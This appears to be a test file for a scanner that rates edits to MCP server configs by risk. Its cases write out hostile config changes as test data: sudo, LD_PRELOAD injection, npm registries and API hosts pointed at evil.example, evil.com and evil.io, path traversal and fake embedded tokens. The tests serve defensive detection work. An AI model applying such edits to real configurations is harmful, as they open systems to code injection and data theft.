import assert from 'node:assert/strict';
import { analyzeFile, type FileAnalysis } from '../../src/core/analyze';

type Case = readonly [name: string, before: object, after: object, verdict: string];

/** Edits of one server, and what they must come to: the tier and the direction. */
const cases: readonly Case[] = [
  [
    'sudo',
    { command: 'node', args: ['dist/server.js'] },
    { command: 'sudo', args: ['node', 'dist/server.js'] },
    'critical loosens',
  ],
  [
    'env',
    { command: 'node', args: ['dist/server.js'] },
    { command: 'env', args: ['LD_PRELOAD=/tmp/x.so', 'node', 'dist/server.js'] },
    'high loosens',
  ],
  [
    'tmp npx',
    { command: 'npx', args: ['a@1.0.0'] },
    { command: '/tmp/npx', args: ['a@1.0.0'] },
    'critical loosens',
  ],
  [
    'prog files',
    { command: 'npx', args: ['a@1.0.0'] },
    { command: 'C:\\Program Files\\nodejs\\npx.cmd', args: ['a@1.0.0'] },
    'none neutral',
  ],
  [
    'registry',
    { command: 'npx', args: ['a@1.0.0'] },
    { command: 'npx', args: ['--registry=http://evil.example', 'a@1.0.0'] },
    'high loosens',
  ],
  [
    '-p extra',
    { command: 'npx', args: ['-p', 'a@1.0.0', 'a'] },
    { command: 'npx', args: ['-p', 'a@1.0.0', '-p', 'evil@1.0.0', 'a'] },
    'medium loosens',
  ],
  [
    'node -r',
    { command: 'node', args: ['s.js'] },
    { command: 'node', args: ['-r', './hook.js', 's.js'] },
    'medium loosens',
  ],
  [
    'uvx with',
    { command: 'uvx', args: ['a==1.0'] },
    { command: 'uvx', args: ['--with', 'evil', 'a==1.0'] },
    'medium loosens',
  ],
  [
    'network none gone',
    { command: 'docker', args: ['run', '--network', 'none', 'a@sha256:' + 'ab'.repeat(32)] },
    { command: 'docker', args: ['run', 'a@sha256:' + 'ab'.repeat(32)] },
    'medium loosens',
  ],
  [
    'vendor',
    { command: 'npx', args: ['@acme/f@2.4.1'] },
    { command: 'npx', args: ['./vendor/f'] },
    'high loosens',
  ],
  [
    'disable-auth',
    { command: 'npx', args: ['a@1.0.0'] },
    { command: 'npx', args: ['a@1.0.0', '--disable-auth'] },
    'high loosens',
  ],
  [
    'parent',
    { command: 'npx', args: ['server-filesystem@1.0.0', '${workspaceFolder}'] },
    { command: 'npx', args: ['server-filesystem@1.0.0', '${workspaceFolder}/../../..'] },
    'high loosens',
  ],
  [
    'dots',
    { command: 'npx', args: ['server-filesystem@1.0.0', 'docs'] },
    { command: 'npx', args: ['server-filesystem@1.0.0', 'docs/..'] },
    'medium loosens',
  ],
  [
    'default host',
    { url: '${BASE:-https://a.com}/mcp' },
    { url: '${BASE:-https://evil.com}/mcp' },
    'medium loosens',
  ],
  [
    'readonly env',
    { command: 'npx', args: ['a@1.0.0'], env: { READ_ONLY: 'true' } },
    { command: 'npx', args: ['a@1.0.0'] },
    'high loosens',
  ],
  [
    'readonly url',
    { url: 'https://a.com/mcp/readonly' },
    { url: 'https://a.com/mcp/' },
    'high loosens',
  ],
  [
    'host',
    { command: 'npx', args: ['a@1.0.0', '--host', '127.0.0.1'] },
    { command: 'npx', args: ['a@1.0.0', '--host', '0.0.0.0'] },
    'medium loosens',
  ],
  [
    'toolsets',
    { command: 'npx', args: ['a@1.0.0', '--toolsets', 'issues'] },
    { command: 'npx', args: ['a@1.0.0', '--toolsets', 'all'] },
    'medium loosens',
  ],
  [
    'api_url',
    { command: 'npx', args: ['a@1.0.0'], env: { API_URL: 'https://a.com' } },
    { command: 'npx', args: ['a@1.0.0'], env: { API_URL: 'https://evil.io' } },
    'medium loosens',
  ],
  [
    'cwd',
    { command: 'node', args: ['s.js'], cwd: '${workspaceFolder}' },
    { command: 'node', args: ['s.js'], cwd: '/tmp/evil' },
    'medium loosens',
  ],
  [
    'xoxb',
    { command: 'npx', args: ['a@1.0.0'] },
    {
      command: 'npx',
      args: ['a@1.0.0', '--token', ['xo', 'xb-123456789012-abcdef123456'].join('')],
    },
    'critical loosens',
  ],
  [
    'header arg',
    { command: 'npx', args: ['mcp-remote@1.0.0', 'https://a.com'] },
    {
      command: 'npx',
      args: [
        'mcp-remote@1.0.0',
        'https://a.com',
        '--header',
        'X-Api-Key: 4f9a8b7c6d5e4f3a2b1c0d9e',
      ],
    },
    'critical loosens',
  ],
  [
    'default secret',
    { url: 'https://a.com', headers: { K: '${API_KEY}' } },
    {
      url: 'https://a.com',
      headers: {
        K:
          '${API_KEY:-' +
          ['sk', '-proj-'].join('') +
          '4f9a8b7c6d5e4f3a2b1c0d9e4f9a8b7c6d5e4f3a2b1c0d9e}',
      },
    },
    'critical loosens',
  ],
  [
    'password',
    { command: 'npx', args: ['a@1.0.0'], env: {} },
    { command: 'npx', args: ['a@1.0.0'], env: { DB_PASSWORD: 'hunter2pass' } },
    'critical loosens',
  ],
  [
    'timeouts',
    { command: 'npx', args: ['a@1.0.0', '--port', '1'] },
    { command: 'npx', args: ['a@1.0.0', '--port', '2'] },
    'low neutral',
  ],
  [
    'registry gone',
    { command: 'npx', args: ['--registry=http://evil.example', 'a@1.0.0'] },
    { command: 'npx', args: ['a@1.0.0'] },
    'low tightens',
  ],
  [
    'read only added',
    { command: 'npx', args: ['a@1.0.0'] },
    { command: 'npx', args: ['a@1.0.0', '--read-only'] },
    'low tightens',
  ],
  [
    'same owner',
    { command: 'npx', args: ['a@1.0.0'], env: { API_URL: 'https://a.com' } },
    { command: 'npx', args: ['a@1.0.0'], env: { API_URL: 'https://eu.a.com' } },
    'low neutral',
  ],
  [
    'cwd in the project',
    { command: 'node', args: ['s.js'] },
    { command: 'node', args: ['s.js'], cwd: '${workspaceFolder}/tools' },
    'low neutral',
  ],
  [
    'password by reference',
    { command: 'npx', args: ['a@1.0.0'] },
    { command: 'npx', args: ['a@1.0.0'], env: { LOG_LEVEL: 'debug' } },
    'low neutral',
  ],
  [
    'reordered',
    { command: 'npx', args: ['a@1.0.0', '--x', '--y'] },
    { command: 'npx', args: ['a@1.0.0', '--y', '--x'] },
    'low neutral',
  ],
];

function judge(before: object, after: object): FileAnalysis {
  const text = (server: object): string => JSON.stringify({ mcpServers: { x: server } });
  const analysis = analyzeFile({
    path: '.mcp.json',
    text: text(after),
    baseline: { text: text(before) },
  });
  assert.ok(analysis);
  return analysis;
}

describe('Edits of one server', () => {
  for (const [name, before, after, verdict] of cases) {
    it(`${name}: ${verdict}`, () => {
      const { assessment, changes } = judge(before, after);
      const words = changes.map((change) => change.words).join(' ');
      assert.equal(`${assessment.tier} ${assessment.direction}`, verdict, words);
    });
  }

  it('never shows a credential in words, before or after', () => {
    const key = ['9f3Kd82m', 'Xq7Lz01T', 'bWc45RvY'].join('');
    for (const [before, after] of [
      [
        ['--api-key', key],
        ['--api-key', '${API_KEY}'],
      ],
      [['--api-key', '${API_KEY}'], [`--api-key=${key}`]],
      [['-e', `TOKEN=${key}`], []],
    ]) {
      const { changes, findings } = judge(
        { command: 'npx', args: ['a@1.0.0', ...(before ?? [])] },
        { command: 'npx', args: ['a@1.0.0', ...(after ?? [])] },
      );
      const shown = JSON.stringify([
        changes.map(({ words, before: old, after: now }) => [words, old, now]),
        findings.map(({ message, sentence }) => [message, sentence]),
      ]);
      assert.ok(!shown.includes(key), shown);
    }
  });
});
